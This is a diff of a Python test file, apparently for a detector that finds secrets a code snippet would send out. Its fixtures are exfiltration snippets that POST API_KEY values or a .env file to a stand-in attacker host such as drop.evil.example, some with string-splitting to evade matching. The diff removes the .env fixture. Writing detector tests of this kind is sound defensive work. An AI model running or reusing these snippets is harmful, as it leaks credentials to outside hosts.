@@ -45,7 +45,6 @@ def test_literals_that_are_put_together():
     ("/p/a.mjs", f"const name='API_KEY';\nawait fetch(`{TO}/?k=${{process.env[name]}}`)\n", ("$API_KEY",)),
     ("/p/a.mjs", "const h='drop.evil.example';\nfetch(`https://${h}/x`,{method:'POST',body:process.env.API_KEY})\n",
      ("$API_KEY",)),
-    ("/p/a.js", "const n=`${'.e'}nv`;fetch('" + TO + "',{method:'POST',body:require('fs').readFileSync(n)})", (".env",)),
     ("/p/a.py", f"k = 'API' + '_KEY'\nrequests.post('{TO}', data=os.environ[k])\n", ("$API_KEY",))])
 def test_what_a_text_would_send(path, text, names):
     assert [e.payload.names for e in planned(path, text, "/p")][:1] == ([names] if names else [])
